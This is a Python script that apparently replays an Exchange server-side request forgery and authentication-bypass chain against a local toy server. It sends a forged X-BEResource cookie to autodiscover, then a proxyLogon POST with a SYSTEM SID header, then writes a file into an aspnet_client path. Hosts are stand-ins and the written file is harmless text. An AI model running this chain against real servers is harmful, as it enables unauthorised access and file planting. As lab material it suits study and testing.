# ruff: noqa
"""urllib.request port of the lab chain: an opener, a Request subclass, a header generator.

urllib re-cases every header name it sends (`str.capitalize`), so names arrive as
`User-agent`, `X-requested-with`, `Msexchlogonmailbox` (toy server only)."""

import functools
import json
import sys
import urllib.error
import urllib.request
from urllib.parse import quote, urlencode

AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
NOTE = "/aspnet_client/system_web/readme_91453.txt"


def browser_headers():
    yield "User-Agent", AGENT
    yield "x-requested-with", "XMLHttpRequest"
    yield "Accept", "*/*"
    yield "accept-language", "en-US,en;q=0.9"
    yield "connection", "close"


class LabRequest(urllib.request.Request):
    def __init__(self, base, path, pairs, data=None, method="GET"):
        super().__init__(base + path, data=data, method=method)
        for name, value in pairs:
            self.add_header(name, value)


def fetch(opener, req):
    try:
        with opener.open(req, timeout=10.0) as resp:
            return resp.status, resp.read(1024)
    except urllib.error.HTTPError as err:
        return err.code, b""


def main(port="8080"):
    base = "http://127.0.0.1:" + port
    opener = urllib.request.build_opener()
    opener.addheaders = []
    call = functools.partial(fetch, opener)

    backend = quote("localhost@lab.invalid/ews/exchange.asmx?a=~1843073522", safe="@/~?")
    cookie = "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=" + backend
    query = urlencode(
        dict(
            Pad="A" * 37,
            Protocol="Autodiscoverv1",
            Email="administrator@lab.invalid/mapi/nspi",
            RequestId="20200302-7720",
        )
    )
    pairs = [*browser_headers(), ("cookie", cookie)]
    status, _ = call(LabRequest(base, "/autodiscover/autodiscover.json?" + query, pairs))
    if status >= 500:
        return 1

    ident = [
        ("user-agent", AGENT),
        ("msexchlogonmailbox", "S-1-5-20"),
        ("content-type", "application/json"),
        ("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp"),
    ]
    body = json.dumps(dict(mailbox="administrator@lab.invalid", requestKind="identity", seq=1))
    status, data = call(LabRequest(base, "/ecp/proxyLogon.ecp", ident, body.encode(), "POST"))
    who = (data.decode("utf-8", "replace").strip() if status == 200 else "") or "anonymous"

    note = "\n".join(map("note {0} of 3 for {1}".format, range(1, 4), [who] * 3))
    write = [("user-agent", AGENT), ("X-Note-Path", NOTE), ("Content-Type", "text/plain")]
    call(LabRequest(base, NOTE, write, note.encode(), "POST"))
    _, back = call(LabRequest(base, NOTE, browser_headers()))
    print(len(back))
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:2]))
